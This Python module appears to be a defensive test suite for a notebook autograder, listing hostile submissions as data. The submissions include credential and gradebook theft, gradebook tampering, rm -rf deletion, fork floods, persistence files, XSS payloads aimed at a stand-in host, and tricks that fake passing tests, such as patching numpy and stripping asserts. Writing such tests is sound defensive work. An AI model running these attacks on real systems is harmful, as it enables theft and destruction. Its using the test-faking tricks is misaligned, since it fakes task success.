"""Hostile submissions, as data: what each tries, in a sentence, and how.

`@root@`, `@unique@` and the like stand for places and names of the world around, see
`hostile_course`. Unless it says otherwise, a submission must get what an honest one would that
answered one question and nothing else.
"""

import copy
import json
import os
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

from hostile_course import BLANK, NAME, ONE, ZERO
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell


@dataclass(frozen=True)
class Attack:
    """One hostile submission."""

    tries: str
    code: str = ""  # a cell before all others
    answers: Mapping[str, str] = field(default_factory=dict)  # source of answer cells, by name
    change: Callable[[NotebookNode], object] | None = None  # whatever else is done to the notebook
    beside: Callable[[Path], object] | None = None  # what is put into the folder
    last: str = ""  # a cell after all others
    score: Mapping[str, float] = field(default_factory=lambda: ONE)  # or the most that it may get,
    hurts_itself: bool = False  # where what it breaks is its own
    refused: str = ""  # what is said, if it is not graded
    flagged: str = ""  # the kind of flag that a person sees

    @property
    def cells(self) -> dict[str, str]:
        """Return the sources of all answer cells."""
        return BLANK | dict(self.answers)


def _function(body: str) -> dict[str, str]:
    """The same body for each function that is asked for."""
    lines = "".join(f"\n    {line}" for line in body.strip("\n").split("\n"))
    return {name: f"def {name}(x):{lines}" for name in ("double", "root", "evens")}


def _value(expression: str) -> dict[str, str]:
    """The same value from each function, and for the number that is asked for."""
    return _function(f"return {expression}") | {"guess": f"guess = {expression}"}


def cell(notebook: NotebookNode, name: str) -> NotebookNode:
    """The cell with this grade_id."""
    return next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == name)


def _tests(notebook: NotebookNode) -> list[NotebookNode]:
    return [each for each in notebook.cells if each.metadata.get("nbgrader", {}).get("grade")]


LOOT = """
import contextlib, glob, os, pathlib, socket, subprocess, sys


def loot(*paths):
    for path in paths:
        for found in glob.glob(path, recursive=True) or [path]:
            try:
                print(found, pathlib.Path(found).read_bytes()[-200_000:])
            except BaseException as error:
                print(found, type(error).__name__)


def attempt(act, *arguments):
    try:
        print(act(*arguments))
    except BaseException as error:
        print(type(error).__name__)

"""

SOCKETS = """
def reach(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as client:
        client.settimeout(1)
        if kind == socket.SOCK_STREAM:
            client.connect(address)
        else:
            client.sendto(b"hello", address)

attempt(reach, socket.AF_INET, ("127.0.0.1", @tcp@))
attempt(reach, socket.AF_INET, ("127.0.0.1", @udp@), socket.SOCK_DGRAM)
attempt(reach, socket.AF_UNIX, "@unix@")
"""

LIAR = """
class Liar:
    def __init__(self, *args): pass
    def yes(self, *args, **kwargs): return True
    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __bool__ = yes
    def __hash__(self): return 0
    def __len__(self): return 1
    def __abs__(self): return 0
    def __float__(self): return 7.0
    __sub__ = __rsub__ = __add__ = __pow__ = __mul__ = lambda self, other: self
    def __getattr__(self, name): return Liar()
    def __getitem__(self, index): return Liar()
    def __call__(self, *args, **kwargs): return Liar()
    def __array__(self, *args, **kwargs):
        import numpy
        return numpy.zeros(())
    def __array_ufunc__(self, *args, **kwargs): return True
    def __array_function__(self, *args, **kwargs): return True
    __array_priority__ = 1e9

"""

# The list that issue trackers and experience began with ------------------------------------------

KNOWN = {
    "runs_the_solutions": Attack(
        "runs the solution cells of source/, wherever a path leads to it",
        LOOT
        + """
import json
for path in ("@root@/source/*/*.ipynb", "../../source/*/*.ipynb", "/proc/*/cwd/source/*/*.ipynb"):
    for found in glob.glob(path):
        for each in json.load(open(found))["cells"]:
            with contextlib.suppress(Exception):
                exec("".join(each["source"]))
""",
        change=lambda notebook: [
            notebook.cells.remove(cell(notebook, name)) for name in BLANK if name != "recall"
        ],
    ),
    "patches_numpy": Attack(
        "makes numpy's comparisons say yes",
        """
import numpy as np
yes = lambda *args, **kwargs: True
for name in ("isclose", "allclose", "array_equal", "isnan", "shape", "all"):
    setattr(np, name, yes)
for name in vars(np.testing):
    if name.startswith("assert"):
        setattr(np.testing, name, yes)
""",
        _value("0"),
    ),
    "equals_everything": Attack(
        "returns an object that is equal to everything", LIAR, _value("Liar()")
    ),
    "strips_asserts": Attack(
        "takes the assert statements out of what IPython runs",
        """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Expr(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Strip())
""",
        _value("0"),
    ),
    "blanks_cells": Attack(
        "has IPython run nothing of what it is given",
        """
shell = get_ipython()
shell.input_transformers_cleanup.append(lambda lines: [])
type(shell).run_cell = type(shell).run_cell_async = lambda *args, **kwargs: None
""",
        _value("0"),
        hurts_itself=True,
    ),
    "forges_the_reply": Attack(
        "has the kernel say that all is well, whatever happened",
        """
kernel = get_ipython().kernel
async def fine(*args, **kwargs):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
kernel.do_execute = type(kernel).do_execute = fine
get_ipython()._showtraceback = get_ipython().showtraceback = lambda *args, **kwargs: None
""",
        _value("0"),
        hurts_itself=True,
    ),
    "prints_a_number_first": Attack(
        "shows a result that nbgrader would take for the points, before the error",
        "",
        _function(
            """
get_ipython().displayhook(2.0)
get_ipython().kernel.session.send(None, "execute_result", {
    "execution_count": 1, "data": {"text/plain": "2"}, "metadata": {}})
print("2.0")
return 0
"""
        ),
    ),
    "skips_tests": Attack(
        "tags the tests to be skipped, to raise, or to run with the student's code",
        answers=_value("0"),
        change=lambda notebook: [
            each.metadata.update(
                tags=["skip-execution", "raises-exception", "remove-cell"],
                course_grading={"tests": "together"},
            )
            for each in notebook.cells
        ],
        flagged="tagged",
    ),
    "brings_modules": Attack(
        "brings modules that would be imported in place of others",
        "import ipykernel_launcher, course.check",
        _value("0"),
        beside=lambda folder: [
            (folder / name).write_text("import os; os.write(1, b'mine'); raise SystemExit")
            for name in (
                *("ipykernel_launcher.py", "numpy.py", "sitecustomize.py", "usercustomize.py"),
                *("course.py", "nbgrader_config.py", "conftest.py", "x.pth", "IPython.py"),
                *("json.py", "matplotlibrc", ".pythonrc", "pyvenv.cfg", "ipython_config.py"),
            )
        ],
        flagged="left-out",
    ),
    "patches_from_a_thread": Attack(
        "goes on patching from a thread while the tests run",
        """
import builtins, threading, time
def patch():
    import numpy as np
    while True:
        np.allclose = np.isclose = np.testing.assert_allclose = lambda *a, **k: True
        builtins.AssertionError = builtins.abs = lambda *a: 0
        time.sleep(0.001)
threading.Thread(target=patch, daemon=True).start()
""",
        _value("0"),
    ),
    "reads_tests_and_classmates": Attack(
        "reads hidden tests, solutions, a classmate's work, the gradebook and a key",
        LOOT
        + """
loot("@root@/source/*/*.ipynb", "@root@/submitted/*/*/*", "@root@/autograded/*/*/*",
     "@root@/gradebook.db", "@home@/*", "./**", "../**", "../../*/*", "/tmp/**", "/home/*/*",
     "/root/*", "/proc/*/environ", "/proc/*/cwd/**", "/proc/*/root@root@/gradebook.db",
     "/proc/*/fd/*", "/proc/self/mountinfo", "/dev/shm/*", "/etc/passwd", "/etc/shadow")
print(os.environ, sys.argv, get_ipython().history_manager.input_hist_raw)
attempt(lambda: subprocess.run("env; cat @root@/source/*/* @home@/key", shell=True,
                               capture_output=True))
""",
    ),
    "raises_its_marks": Attack(
        "raises its marks in the gradebook",
        LOOT
        + """
import sqlite3
for path in ("@root@/gradebook.db", "../../../gradebook.db", "/proc/1/root@root@/gradebook.db"):
    attempt(lambda: sqlite3.connect(path).executescript(
        "update grade set auto_score = 2, manual_score = 2, extra_credit = 9; commit"))
""",
    ),
    "uses_the_network": Attack(
        "connects to servers of this machine and others, and looks up a name",
        LOOT
        + SOCKETS
        + """
attempt(socket.getaddrinfo, "example.org", 80)
attempt(lambda: __import__("urllib.request").request.urlopen("http://127.0.0.1:@tcp@", timeout=1))
attempt(lambda: subprocess.run(["curl", "-m1", "http://127.0.0.1:@tcp@"], capture_output=True))
""",
    ),
    "deletes_files": Attack(
        "deletes and overwrites what the instructor has",
        LOOT
        + """
import shutil
for path in ("@root@", "@home@", "@outside@"):
    shutil.rmtree(path, ignore_errors=True)
    os.system(f"rm -rf {path}/* ; echo mine > {path}/precious.txt")
    attempt(lambda: pathlib.Path(path, "precious.txt").write_text("mine"))
""",
    ),
    "follows_links": Attack(
        "hands in links to the gradebook, the home, a classmate's work, and a hard link",
        LOOT + 'loot("**", "*/*", "data.csv", "home/key")',
        beside=lambda folder: [
            (folder / "data.csv").symlink_to(folder.parents[2] / "gradebook.db"),
            (folder / "home").symlink_to(folder.parents[3] / "home"),
            (folder / "theirs").symlink_to("../../classmate"),
            os.link(folder.parents[3] / "home" / "key", folder / "key.txt"),
            os.mkfifo(folder / "pipe.txt"),
        ],
        flagged="link",
    ),
    "forks_many": Attack(
        "starts 200 processes that would stay",
        LOOT
        + """
import ctypes, signal, time
started = 0
for _ in range(200):
    try:
        child = os.fork()
    except OSError:
        break
    if child == 0:
        os.setsid()
        for number in range(1, 65):
            with contextlib.suppress(OSError, ValueError):
                signal.signal(number, signal.SIG_IGN)
        ctypes.CDLL(None).prctl(15, b"@unique@")
        time.sleep(3600)
    started += 1
print(started)
""",
    ),
    "leaves_a_daemon": Attack(
        "starts a program that would outlive it",
        """
import os, subprocess
subprocess.Popen(["sleep", "3600.@number@"], start_new_session=True)
subprocess.Popen("nohup setsid sleep 3600.@number@ &", shell=True)
""",
    ),
    "leaves_startup_files": Attack(
        "leaves files that the next one's Python or IPython would run",
        LOOT
        + """
import pwd, site, tempfile
roots = pwd.getpwuid(0).pw_dir + "/.ipython"
spots = [os.environ.get("IPYTHONDIR", ""), "~/.ipython", "@home@/.ipython", roots]
for spot in spots:
    path = pathlib.Path(os.path.expanduser(spot), "profile_default/startup/@unique@.py")
    attempt(lambda: path.parent.mkdir(parents=True, exist_ok=True))
    attempt(lambda: path.write_text("import numpy; numpy.allclose = lambda *a, **k: True"))
for spot in (*site.getsitepackages(), sys.prefix + "/bin", "/usr/local/bin", "/etc", "/tmp",
             "/var/tmp", "/dev/shm", "@home@", "@outside@", tempfile.gettempdir(), os.getcwd()):
    attempt(lambda: pathlib.Path(spot, "@unique@.pth").write_text("import this"))
import numpy
attempt(lambda: open(numpy.__file__, "a").write("x"))
attempt(lambda: open(os.__file__, "a").write("x"))
""",
    ),
    "puts_a_script_on_the_page": Attack(
        "shows scripts, frames and links that run where somebody looks at the outputs",
        """
from IPython.display import display, HTML, Javascript, SVG, Markdown, Latex, IFrame
for text in (
    "<script>steal()</script>", "<img src=x onerror=steal()>", "<svg onload=steal()></svg>",
    "<a href='javascript:steal()'>x</a>", "<a href=' \\tjava\\nscript:steal()'>x</a>",
    "<iframe srcdoc='<script>steal()</script>'></iframe>", "<style>@import 'http://steal'</style>",
    "<form action=http://steal><button>", "<meta http-equiv=refresh content='0;http://steal'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=steal()>", "<base href=http://steal/>",
    "<div style='background:url(http://steal)'>x</div>", "<object data='data:text/html,steal'>",
    "<b onmouseover=steal()>x</b>", "</pre></div></script><script>steal()</script>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'>", "<video src=http://steal>",
    "<svg><a xlink:href='javascript:steal()'><text>x</text></a><set onbegin=steal() /></svg>",
    "<img src='http://steal/x.png'>", "<details open ontoggle=steal()>", "<!--><script>steal()//",
):
    display(HTML(text))
    display(Markdown(text))
    display(Latex(text))
    display({"image/svg+xml": text, "text/html": [text, text]}, raw=True)
display(Javascript("steal()"), IFrame("http://steal", 9, 9))
display({"application/javascript": "steal()", "text/x-evil": "steal()"}, raw=True)
display({"image/png": "x' onerror='steal()", "application/vnd.jupyter.widget-view+json": {}},
        raw=True, metadata={"image/png": {"width": "1' onerror='steal()"}})
print("<script>steal()</script>\\x1b]8;;javascript:steal()\\x07x\\x1b]8;;\\x07\\x1b[31m</span>")
raise type("<script>steal()</script>", (Exception,), {})("<img src=x onerror=steal()>")
""",
        change=lambda notebook: notebook.cells.extend(
            [
                new_markdown_cell(
                    "<script>steal()</script> [x](javascript:steal()) ![x](http://steal/x.png)\n\n"
                    "[x](data:text/html,<script>steal()</script>) <svg/onload=steal()>\n\n"
                    "$</script><script>steal()</script>$ ![y](attachment:a.svg)\n\n"
                    '[ref]: javascript:steal()\n[x][ref] ![z"onerror="steal()](attachment:b.png)',
                    attachments={
                        "a.svg": {"image/svg+xml": "<svg onload=steal()></svg>"},
                        'b.png" onerror="steal()': {"image/png": "AAAA"},
                        "b.png": {"image/png": 'AAAA" onerror="steal()'},
                    },
                ),
                new_code_cell("'</script><script>steal()</script>'  # </pre><svg onload=steal()>"),
            ]
        ),
    ),
    "copies_a_test": Attack(
        "copies a test cell, with an easier test in it",
        answers=_value("0"),
        change=lambda notebook: [
            notebook.cells.append(NotebookNode(copy.deepcopy(each), id=f"{each.id}-2", source="1"))
            for each in _tests(notebook)
        ],
        flagged="changed",
    ),
}

# Admission: what the file and the folder claim to be ----------------------------------------------

OWN_NAMES = """
class Yes:
    def __getattr__(self, name): return lambda *args, **kwargs: True
np = Yes()
close = lambda *args: True
LIMIT = 1e300
ABC = "abc"
shown = WANTED = [1, 1]
wanted = 0
"""


def _to_the_end(notebook: NotebookNode, *names: str) -> None:
    for name in names:
        moved = cell(notebook, name)
        notebook.cells.remove(moved)
        notebook.cells.append(moved)


def _to_the_front(notebook: NotebookNode, *cells: NotebookNode) -> None:
    for moved in reversed(cells):
        notebook.cells.remove(moved)
        notebook.cells.insert(0, moved)


def _marks(notebook: NotebookNode, **marks: object) -> None:
    for each in _tests(notebook):
        each.metadata.nbgrader.update(marks)


def _replaced(notebook: NotebookNode, text: str) -> None:
    for each in _tests(notebook)[:-1]:
        each.source = text


def _renamed(notebook: NotebookNode, name: str, to: object) -> None:
    cell(notebook, name).metadata.nbgrader["grade_id"] = to


def _with_outputs(notebook: NotebookNode) -> None:
    shown = {"data": {"text/plain": "2"}, "metadata": {}, "execution_count": 1}
    for each in _tests(notebook):
        each.outputs = [NotebookNode(output_type="execute_result", **shown)]
        each.execution_count = 1


def _claiming(notebook: NotebookNode) -> None:
    for name in ("mine", "Double-values", "double-values ", "double-values\0", "../x", "a" * 5000):
        mark = {"grade_id": name, "grade": True, "locked": True, "solution": False, "points": 50}
        notebook.cells.append(new_code_cell("50", metadata={"nbgrader": mark}))


def _other_notebooks(folder: Path) -> None:
    content = (folder / f"{NAME}.ipynb").read_bytes()
    for name in (f"{NAME} (1)", NAME.upper(), f".ipynb_checkpoints/{NAME}-checkpoint", "a\nb"):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / f"{name}.ipynb").write_bytes(content)


def _rewritten(change: Callable[[dict], object]) -> Callable[[Path], object]:
    def act(folder: Path) -> None:
        path = folder / f"{NAME}.ipynb"
        content = json.loads(path.read_bytes())
        change(content)
        path.write_text(json.dumps(content), encoding="utf-8")

    return act


ADMISSION = {
    "moves_the_setup_to_the_end": Attack(
        "moves the set-up cell behind the tests and has names of its own in its place",
        OWN_NAMES,
        _value("0"),
        score=ZERO,  # a test that needs the set-up does not have it
        change=lambda notebook: _to_the_end(notebook, "setup", "show"),
    ),
    "moves_tests_to_the_front": Attack(
        "moves the tests before the set-up cell and has names of its own in its place",
        answers=_value("0"),
        change=lambda notebook: _to_the_front(
            notebook, new_front(notebook, OWN_NAMES + _value("0")["double"]), *_tests(notebook)[:6]
        ),
    ),
    "copies_the_setup_to_the_end": Attack(
        "copies the set-up cell behind the tests, where the last of two copies counts",
        OWN_NAMES,
        _value("0"),
        score=ZERO,
        change=lambda notebook: notebook.cells.append(
            NotebookNode(copy.deepcopy(cell(notebook, "setup")), id="again")
        ),
    ),
    "swaps_the_setups": Attack(
        "moves the second set-up cell before the first one",
        OWN_NAMES,
        _value("0"),
        change=lambda notebook: _to_the_front(
            notebook, notebook.cells[0], cell(notebook, "show"), cell(notebook, "shown-answer")
        ),
    ),
    "moves_a_test_before_another": Attack(
        "moves a test before the one that defines a name for it, and defines the name itself",
        "wanted = 'mine'",
        {"evens": "def evens(n):\n    return [1, 3] if n == 2 else 'mine'"},
        change=lambda notebook: [
            notebook.cells.remove(moved := cell(notebook, "evens-again")),
            notebook.cells.insert(notebook.cells.index(cell(notebook, "evens-values")), moved),
        ],
    ),
    "cuts_a_setup_short": Attack(
        "fails in the middle of a set-up cell that calls its function, and defines the rest of it",
        answers={"double": "shown = WANTED = [1, 1]\ndef double(x):\n    raise ZeroDivisionError"},
        change=lambda notebook: notebook.cells.insert(
            notebook.cells.index(cell(notebook, "show")) + 1,
            new_code_cell("shown = WANTED = [1, 1]"),
        ),
    ),
    "cuts_a_test_short": Attack(
        "fails in the middle of a test, and defines the name that the next one takes from it",
        "wanted = 'mine'",
        {"evens": "def evens(n):\n    return {3: [0, 2, 4], 2: [0, 2]}.get(n, 'mine')"},
    ),
    "weakens_tests": Attack(
        "writes other tests into the test cells",
        answers=_value("0"),
        change=lambda notebook: _replaced(notebook, "2"),
        flagged="changed",
    ),
    "empties_tests": Attack(
        "empties the test cells: no output is full marks",
        answers=_value("0"),
        change=lambda notebook: _replaced(notebook, ""),
    ),
    "deletes_tests": Attack(
        "deletes the test cells",
        answers=_value("0"),
        change=lambda notebook: [notebook.cells.remove(each) for each in _tests(notebook)],
        flagged="missing",
    ),
    "turns_tests_into_text": Attack(
        "turns the test cells into text",
        answers=_value("0"),
        change=lambda notebook: [
            each.update(cell_type="markdown") or each.pop("outputs") for each in _tests(notebook)
        ],
        flagged="retyped",
    ),
    "unlocks_tests": Attack(
        "marks the tests as not locked, as solutions and as not graded",
        answers=_value("0"),
        change=lambda notebook: (
            _marks(notebook, locked=False, solution=True, grade=False, checksum="x"),
            _replaced(notebook, "2"),
        ),
    ),
    "raises_the_points": Attack(
        "raises the points of its tests",
        change=lambda notebook: _marks(notebook, points=1000, max_score=1000, score=1000),
    ),
    "points_that_are_no_number": Attack(
        "gives its tests points that are no number",
        change=lambda notebook: _marks(notebook, points=float("nan"), schema_version=99),
    ),
    "invents_graded_cells": Attack(
        "adds graded cells of its own, under names that resemble others",
        change=_claiming,
        flagged="forged",
    ),
    "answers_as_a_graded_cell": Attack(
        "marks its answer as graded by its output",
        change=lambda notebook: cell(notebook, "double").metadata.nbgrader.update(
            grade=True, points=50, grade_id="double", locked=True
        ),
    ),
    "takes_a_tests_name": Attack(
        "gives a cell of its own the name of a test, and the test another name",
        answers=_value("0"),
        change=lambda notebook: (
            _renamed(notebook, "double-values", "other"),
            _renamed(notebook, "double", "double-values"),
        ),
    ),
    "names_that_are_no_names": Attack(
        "names its cells by lists, numbers and nothing",
        change=lambda notebook: [
            _renamed(notebook, name, to)
            for name, to in (("double", ["x"]), ("root", 3), ("evens", None), ("guess", {}))
        ],
    ),
    "changes_the_setup": Attack(
        "changes the set-up cell",
        answers=_value("0"),
        change=lambda notebook: cell(notebook, "setup").update(source=OWN_NAMES),
        flagged="changed",
    ),
    "brings_outputs": Attack(
        "brings outputs that say what it scored", answers=_value("0"), change=_with_outputs
    ),
    "brings_much_output": Attack(
        "brings outputs of 15 MB, a zip file of zeros and an image without end among them",
        change=lambda notebook: notebook.cells[-1].update(
            outputs=[
                NotebookNode(
                    output_type="display_data",
                    data={"image/png": "A" * 15_000_000, "application/zip": "UEsDB"},
                    metadata={},
                )
            ]
        ),
    ),
    "asks_for_one_process": Attack(
        "asks in the notebook's metadata for one process, another kernel, and widgets",
        "import numpy as np\nnp.allclose = np.isclose = lambda *a, **k: True",
        _value("0"),
        change=lambda notebook: notebook.metadata.update(
            course_grading={"tests": "together", "flags": []},
            kernelspec={"name": "../../x", "display_name": "x", "language": "x"},
            language_info={"name": "<script>steal()</script>"},
            widgets={"application/vnd.jupyter.widget-state+json": {"state": {"a": 1}}},
        ),
    ),
    "cell_ids_of_others": Attack(
        "gives all its cells one id, with a tag in it",
        change=lambda notebook: [each.update(id="<script>steal()") for each in notebook.cells],
    ),
    "hands_in_more_notebooks": Attack(
        "hands in more notebooks under names that resemble the right one",
        beside=_other_notebooks,
        flagged="left-out",
    ),
    "brings_the_course": Attack(
        "brings a package of the course's name, in folders and in a zip file",
        "import sys\nsys.path.insert(0, '')\nimport course.check",
        _value("0"),
        beside=lambda folder: [
            (folder / "course" / "check").mkdir(parents=True),
            *(
                (folder / name).write_text("raise SystemExit")
                for name in ("course/__init__.py", "course/check/__init__.py", "course.zip")
            ),
            (folder / "course" / "check" / "checks.json").write_text("{}"),
        ],
        flagged="left-out",
    ),
    "shouts_its_name": Attack(
        "hands in its notebook under a name in capitals, with look-alikes of the right one",
        beside=lambda folder: [
            (folder / f"{NAME}.ipynb").rename(folder / f"{NAME}.IPYNB"),
            (folder / f"{NAME.replace('a', 'а')}.ipynb").write_text("{}"),
            (folder / f"{NAME}.ipynb ").write_text("{}"),
        ],
        score=ZERO,
        refused="there is no file of that name",
        flagged="left-out",
    ),
    "a_link_for_a_folder": Attack(
        "hands in a link to the classmate's folder",
        beside=lambda folder: [
            folder.rename(folder.parent / "moved"),
            folder.symlink_to(f"../classmate/{NAME}"),
        ],
        score=ZERO,
        refused="its folder is a link",
    ),
    "a_pipe_for_a_notebook": Attack(
        "hands in a pipe, from which nothing ever comes",
        beside=lambda folder: [
            (folder / f"{NAME}.ipynb").unlink(),
            os.mkfifo(folder / f"{NAME}.ipynb"),
        ],
        score=ZERO,
        refused="a pipe, a socket or a device",
        flagged="link",
    ),
    "a_key_for_a_notebook": Attack(
        "hands in a key of the instructor's, by a hard link",
        beside=lambda folder: [
            (folder / f"{NAME}.ipynb").unlink(),
            os.link(folder.parents[3] / "home" / "key", folder / f"{NAME}.ipynb"),
        ],
        score=ZERO,
        refused="a hard link",
        flagged="link",
    ),
    "a_hundred_thousand_cells": Attack(
        "hands in a hundred thousand cells",
        beside=_rewritten(lambda content: content.update(cells=[{"source": "1"}] * 100_000)),
        score=ZERO,
        refused="it has 100,000 cells",
    ),
    "swaps_the_names_of_tests": Attack(
        "swaps the names of a test that it passes and one that is worth more",
        answers=_value("0"),
        change=lambda notebook: (
            _renamed(notebook, "double-values", "x"),
            _renamed(notebook, "recall-answer", "double-values"),
            _renamed(notebook, "x", "recall-answer"),
        ),
        score=ZERO,  # the one that it would pass comes before its answer now
        flagged="changed",
    ),
    "names_of_files": Attack(
        "hands in files under names that lead elsewhere or cannot be printed",
        LOOT + 'loot("**")',
        beside=lambda folder: [
            Path(os.fsdecode(bytes(folder) + b"/" + name)).write_text("x")
            for name in (b"..data.csv", b"a\nb.csv", b"\xff.csv", b"-rf.csv", b"~.csv", b"$HOME.md")
        ],
    ),
    "replaces_an_instructors_file": Attack(
        "hands in another file under the name of one that the tests read",
        answers={"double": "def double(x):\n    return 5.1 if type(x) is float else 2 * x"},
        beside=lambda folder: (folder / "limit.txt").write_text("1e9"),
        score=ONE | {"double-values": 2, "shown-answer": 1},
    ),
    "a_folder_for_a_file": Attack(
        "hands in a folder under the name of a file of the instructor's",
        beside=lambda folder: [
            (folder / "limit.txt").mkdir(),
            (folder / "limit.txt" / "x.txt").write_text("x"),
        ],
    ),
    "home_in_the_folder": Attack(
        "hands in what would be the home of its process, with settings in it",
        beside=lambda folder: [
            (folder / ".home/.ipython/profile_default").mkdir(parents=True),
            (folder / ".home/.ipython/profile_default/ipython_config.json").write_text(
                '{"InteractiveShellApp": {"exec_lines": ["raise SystemExit"]}}'
            ),
            (folder / ".tmp").mkdir(),
            (folder / ".tmp" / "x.txt").write_text("x"),
        ],
    ),
    "format_5": Attack(
        "says that it is of a format that does not exist yet",
        beside=_rewritten(lambda content: content.update(nbformat=5)),
        score=ZERO,
        refused="format 5",
    ),
    "format_true": Attack(
        "says that its format is true",
        beside=_rewritten(lambda content: content.update(nbformat=True, nbformat_minor="x")),
        score=ZERO,
        refused="not a notebook",
    ),
    "deep_metadata": Attack(
        "nests its metadata 100,000 deep",
        beside=lambda folder: (folder / f"{NAME}.ipynb").write_text(
            '{"nbformat": 4, "metadata": ' + '{"a":' * 100_000 + "1" + "}" * 100_001
        ),
        score=ZERO,
        refused="not JSON",
    ),
    "numbers_without_end": Attack(
        "has a number of a million digits for a format",
        beside=lambda folder: (folder / f"{NAME}.ipynb").write_text(
            '{"nbformat": ' + "9" * 1_000_000 + ', "cells": []}'
        ),
        score=ZERO,
        refused="not JSON",
    ),
    "a_link_for_a_notebook": Attack(
        "hands in a link to the classmate's notebook",
        beside=lambda folder: [
            (folder / f"{NAME}.ipynb").unlink(),
            (folder / f"{NAME}.ipynb").symlink_to(f"../../classmate/{NAME}/{NAME}.ipynb"),
        ],
        score=ZERO,
        refused="a link to another place",
    ),
    "half_characters": Attack(
        "has halves of characters in its code, its metadata and its names",
        "print('\\ud800')\nx\\udfff = 1",
        beside=_rewritten(
            lambda content: content["cells"][0].update(source="print('\ud800')", id="\ud800")
        ),
    ),
}


def new_front(notebook: NotebookNode, code: str) -> NotebookNode:
    """A new cell of a notebook, in front."""
    notebook.cells.insert(0, new_code_cell(code))
    return notebook.cells[0]
